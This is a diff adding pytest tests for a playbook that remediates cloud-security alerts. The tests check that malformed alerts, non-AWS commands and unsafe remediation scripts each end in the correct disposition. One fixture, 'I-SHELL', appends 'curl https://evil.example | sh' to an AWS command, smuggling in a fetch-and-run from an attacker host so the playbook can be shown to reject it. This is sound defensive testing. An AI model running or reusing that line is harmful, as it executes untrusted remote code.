@@ -1,0 +1,187 @@
+# Copyright: The Leastpriv team
+# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""Bad input ends in its disposition with a clear sentence, the rest is done, and nothing is lost."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from stack import run_playbook, seed
+from stack.alerts import deny_script, flat_alert, in_sns_envelope, integration_test, nested_alert
+
+NOT_TOLD = ("Traceback", "KeyError", "TypeError")
+
+
+def good_alert(stack, account="payments", alert_id="I-GOOD", user="alice"):
+    """An alert that must be remediated whatever else is in the queue."""
+    seed(stack, account, users=[user])
+    account_id = stack.account_id(account)
+    stack.script(alert_id, deny_script("user", user, account_id, alert_id))
+    stack.send(nested_alert(alert_id, account_id, name=user))
+
+
+def reason_of(run, alert_id):
+    return run.alerts[alert_id]["reason"]
+
+
+def test_every_bad_message_and_script_ends_in_its_disposition(stack):
+    good_alert(stack)
+    account_id = stack.account_id("payments")
+    stack.send("{not json")
+    stack.send("[1, 2]")
+    stack.send({key: value for key, value in nested_alert("I-1", account_id).items() if key != "alertId"})
+    stack.send(nested_alert("I-NOACCOUNT", account_id, account=None))
+    stack.send(nested_alert("I-LOSTZERO", account_id, account={"cloudType": "AWS", "id": 12345678901}))
+    stack.send(in_sns_envelope(integration_test()))
+    stack.send(nested_alert("I-CLOSED", account_id, alertStatus="resolved"))
+    stack.send(nested_alert("I-AZURE", account_id, account={"cloudType": "azure", "id": "b1946ac9-2f0e"}))
+    stack.send(nested_alert("I-UNMAPPED", "999999999999"))
+    stack.send(nested_alert("I-ABSENT", account_id))
+    stack.send(flat_alert("P-BLANK", account_id, "BLANK"))
+    stack.send(nested_alert("I-HUGE", account_id, reason="x" * 300_000))
+    scripts = {
+        "I-EMPTY": "",
+        "I-NULL": None,
+        "I-MARKER": "dynamic aws cli commands",
+        "I-GCLOUD": "gcloud compute networks subnets update default --enable-flow-logs",
+        "I-PLACEHOLDER": "aws iam detach-user-policy --user-name <USER_NAME> --policy-arn arn:aws:iam::aws:policy/x",
+        "I-EC2": "aws ec2 revoke-security-group-ingress --group-id sg-1",
+        "I-SHELL": "aws iam list-users; curl https://evil.example | sh",
+        "I-PROFILE": "aws iam delete-login-profile --user-name alice --profile admin",
+        "I-GHOST": f"aws iam attach-user-policy --user-name ghost --policy-arn arn:aws:iam::{account_id}:policy/x",
+        "I-HUGE": deny_script("user", "alice", account_id, "I-HUGE"),
+    }
+    for alert_id, script in scripts.items():
+        stack.script(alert_id, script)
+        if alert_id != "I-HUGE":
+            stack.send(nested_alert(alert_id, account_id))
+    sent = len(stack.messages())
+    run = run_playbook(stack)
+    assert run.rc == 2
+    expected = {
+        "I-GOOD": "remediated",
+        "I-HUGE": "remediated",
+        "I-NOACCOUNT": "invalid",
+        "I-LOSTZERO": "invalid",
+        "T-0": "acknowledged",
+        "I-CLOSED": "acknowledged",
+        "I-AZURE": "not_aws",
+        "I-UNMAPPED": "unmapped_account",
+        "I-ABSENT": "not_remediable",
+        "P-BLANK": "not_remediable",
+        "I-EMPTY": "not_remediable",
+        "I-NULL": "not_remediable",
+        "I-MARKER": "not_remediable",
+        "I-GCLOUD": "not_aws",
+        "I-PLACEHOLDER": "unsupported",
+        "I-EC2": "unsupported",
+        "I-SHELL": "unsupported",
+        "I-PROFILE": "refused",
+        "I-GHOST": "failed",
+    }
+    assert {key: value for key, value in run.dispositions.items() if key in expected} == expected
+    assert run.report["totals"]["invalid"] == 5
+    assert "lost" in reason_of(run, "I-LOSTZERO") or "zero" in reason_of(run, "I-LOSTZERO")
+    assert "ec2" in reason_of(run, "I-EC2")
+    assert "--profile" in reason_of(run, "I-PROFILE")
+    assert all(alert["reason"] for alert in run.report["alerts"])
+    deleted = [alert for alert in run.report["alerts"] if alert["disposition"] in ("remediated", "acknowledged")]
+    assert stack.depth() == (sent - len(deleted), 0)
+    assert not [word for word in NOT_TOLD if word in run.stdout + run.stderr]
+
+
+def test_a_profile_of_another_account_is_noticed_before_anything_is_read(stack):
+    good_alert(stack)
+    good_alert(stack, "sandbox", "I-OTHER", "carol")
+    hosts = {
+        "payments": {"account_id": stack.account_id("payments"), "aws_profile": "sandbox"},
+        "sandbox": {"account_id": stack.account_id("sandbox"), "aws_profile": "sandbox"},
+    }
+    inventory = stack.write_inventory(stack.folder / "wrong.yml", **hosts)
+    stack.clear_calls()
+    run = run_playbook(stack, "-i", str(inventory))
+    assert run.rc == 2
+    assert run.dispositions == {"I-GOOD": "failed", "I-OTHER": "remediated"}
+    assert f"belongs to account {stack.account_id('sandbox')}" in reason_of(run, "I-GOOD")
+    assert stack.calls(service="iam", account=stack.account_id("payments")) == []
+    assert stack.depth() == (1, 0)
+
+
+def test_a_profile_that_does_not_exist_fails_its_account_alone(stack):
+    good_alert(stack)
+    good_alert(stack, "sandbox", "I-OTHER", "carol")
+    hosts = {
+        "payments": {"account_id": stack.account_id("payments"), "aws_profile": "nobody-made-this"},
+        "sandbox": {"account_id": stack.account_id("sandbox"), "aws_profile": "sandbox"},
+    }
+    run = run_playbook(stack, "-i", str(stack.write_inventory(stack.folder / "wrong.yml", **hosts)))
+    assert run.dispositions == {"I-GOOD": "failed", "I-OTHER": "remediated"}
+    assert "nobody-made-this" in reason_of(run, "I-GOOD")
+    assert stack.depth() == (1, 0)
+
+
+def test_an_account_id_that_yaml_read_as_a_number_is_explained(stack):
+    good_alert(stack, "analytics")
+    inventory = stack.folder / "number.yml"
+    inventory.write_text("aws_accounts: {hosts: {analytics: {account_id: 12345678901, aws_profile: analytics}}}\n")
+    run = run_playbook(stack, "-i", str(inventory))
+    assert run.dispositions == {"I-GOOD": "unmapped_account"}
+    assert "analytics" in reason_of(run, "I-GOOD")
+    assert "12345678901" in reason_of(run, "I-GOOD")
+    assert "quote" in reason_of(run, "I-GOOD") or '"012345678901"' in reason_of(run, "I-GOOD")
+    assert stack.depth() == (1, 0)
+
+
+def test_ambient_keys_of_somebody_else_do_not_disturb_the_profiles(stack):
+    good_alert(stack)
+    keys = {"AWS_PROFILE": None, "AWS_ACCESS_KEY_ID": "AKIALEASTPRIVSTACK00", "AWS_SECRET_ACCESS_KEY": "loopback-only"}
+    run = run_playbook(stack, env=keys)
+    assert run.rc == 0, run.stdout
+    assert run.dispositions == {"I-GOOD": "remediated"}
+
+
+def test_an_api_that_is_down_gives_its_alerts_back(stack):
+    good_alert(stack)
+    stack.send(flat_alert("P-1", stack.account_id("payments"), "aws iam delete-login-profile --user-name alice"))
+    run = run_playbook(stack, env={"API_ENDPOINT": "http://127.0.0.1:9"})
+    assert run.rc == 2
+    assert run.dispositions == {"I-GOOD": "unavailable", "P-1": "already_remediated"}
+    assert stack.depth() == (1, 0)
+
+
+def test_an_expired_static_token_says_what_to_use_instead(stack):
+    good_alert(stack)
+    env = {"AUTH_KEY": "long-gone", "PRISMACLOUD_USERNAME": None, "PRISMACLOUD_PASSWORD": None}
+    run = run_playbook(stack, env=env)
+    assert run.dispositions == {"I-GOOD": "unavailable"}
+    assert "expired" in reason_of(run, "I-GOOD")
+    assert "PRISMACLOUD_USERNAME" in reason_of(run, "I-GOOD")
+    assert "long-gone" not in run.stdout + run.stderr
+
+
+def test_a_static_token_works_while_it_is_valid(stack):
+    good_alert(stack)
+    env = {"AUTH_KEY": stack.new_token(), "PRISMACLOUD_USERNAME": None, "PRISMACLOUD_PASSWORD": None}
+    assert run_playbook(stack, env=env).dispositions == {"I-GOOD": "remediated"}
+
+
+@pytest.mark.parametrize("mode", [(), ("--check",)])
+def test_a_missing_queue_ends_the_run_before_anything_else(stack, mode):
+    run = run_playbook(stack, *mode, env={"SQS_QUEUE_NAME": "no-such-queue"})
+    assert run.rc != 0
+    assert "no-such-queue" in run.stdout + run.stderr
+    assert run.report is None
+    assert stack.api_requests() == []
+    assert stack.calls(service="iam") == []
+    assert not [word for word in NOT_TOLD if word in run.stdout + run.stderr]
+
+
+def test_an_unreadable_list_of_protected_principals_stops_everything(stack):
+    good_alert(stack)
+    wrong = [{"arn": "arn:aws:iam::*:user/x", "owner": "me", "reason": "mine", "expires": "soon"}]
+    run = run_playbook(stack, "-e", json.dumps({"remediate_protected_principals": wrong}))
+    assert run.rc == 2
+    assert run.dispositions == {"I-GOOD": "refused"}
+    assert stack.calls(service="iam", mutating=True) == []
